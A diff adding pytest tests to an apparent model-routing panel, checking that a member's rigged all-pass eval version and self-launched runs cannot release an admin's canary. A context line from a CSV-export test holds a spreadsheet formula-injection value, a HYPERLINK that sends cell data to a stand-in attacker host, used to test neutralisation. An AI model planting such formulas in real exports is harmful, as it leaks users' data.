@@ -293,3 +293,63 @@ def test_the_csv_export_neutralises_a_candidate_name_a_spreadsheet_would_run_as_
     [row] = [row for row in rows if "HYPERLINK" in row["candidate"]]
     assert row["candidate"] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")"
     assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+
+
+def test_a_members_new_version_and_runs_neither_release_nor_roll_back_an_admins_canary(world):
+    """The guard goes by the version an admin pinned, and by the runs the guard or an admin started: a member who
+    saves a version every answer passes, and runs it (or the pinned one) on the candidate, decides nothing."""
+    from panel.accounts.models import Role
+    from panel.accounts.services import membership_add
+    from panel.channels import canary
+    from panel.evaluations import canary_guard
+    from panel.evaluations.runs import eval_run_launch
+    from panel.evaluations.services import eval_set_revise
+    from tests.support.teams import user_create
+
+    route, cheap, pinned = world["route"], world["cheap"], world["eval_set"].current()
+    mallory = user_create("mallory", "pw-mallory-123")
+    membership_add(team=world["team"], user=mallory, role=Role.MEMBER)
+
+    def finish(run, passed):
+        EvalRun.objects.filter(pk=run.pk).update(state="succeeded", finished_at=timezone.now(), result={
+            "cases": 10, "passed": passed, "pass_rate": passed / 10, "cost_per_accepted": "0.001"})
+        canary_guard.after_run(run.pk)
+        route.refresh_from_db()
+
+    canary.canary_start(route=route, channel=cheap, actor=world["alice"])
+    guards = EvalRun.objects.get(state="pending", candidate__id=cheap.pk)
+    held = Route.objects.get(pk=route.pk).canary_hold
+    trivial = '{"id": "t", "prompt": "Say hi", "checks": [{"type": "regex", "pattern": ".*"}]}\n'
+    eval_set_revise(eval_set=world["eval_set"], user=mallory, text=trivial, note="all pass")
+    assert world["eval_set"].current() != pinned
+    mine = eval_run_launch(team=world["team"], user=mallory, eval_set=world["eval_set"],
+                           candidate=f"channel:{cheap.pk}")
+    finish(mine, passed=10)
+    assert (route.canary_state, route.canary_hold) == ("running", held)
+    on_pinned = EvalRun.objects.create(team=world["team"], created_by=mallory, eval_version=pinned,
+                                       candidate=guards.candidate)
+    finish(on_pinned, passed=0)
+    assert (route.canary_state, route.canary_hold) == ("running", held)
+    assert guards.eval_version == pinned
+    finish(guards, passed=10)  # the guard's own run of the pinned version decides
+    assert (route.canary_state, route.canary_hold) == ("running", "")
+
+
+def test_an_admin_pins_a_newer_version_and_saving_otherwise_keeps_the_pinned_one(world):
+    from panel.evaluations.services import eval_set_revise
+
+    pinned = world["autopilot"].eval_version
+    assert pinned == world["eval_set"].current()
+    newer = eval_set_revise(eval_set=world["eval_set"], user=None, note="more", text=(
+        '{"id": "t", "prompt": "Say hi", "checks": [{"type": "contains", "text": "hi"}]}\n'))
+    settings = dict(route=world["route"], user=world["alice"], eval_set=world["eval_set"], min_pass_rate=0.9,
+                    max_drop=0.1, min_shadow_copies=3, start_canary=False)
+
+    def cheap_run():
+        review = autopilot_review(Autopilot.objects.get())
+        return next(c.run for c in review.candidates if c.channel == world["cheap"])
+
+    assert autopilot_save(**settings).eval_version == pinned
+    assert cheap_run().eval_version == pinned  # still judged on the pinned version's runs
+    assert autopilot_save(**settings, pin_newest=True).eval_version == newer
+    assert cheap_run() is None  # not run on the newer version yet
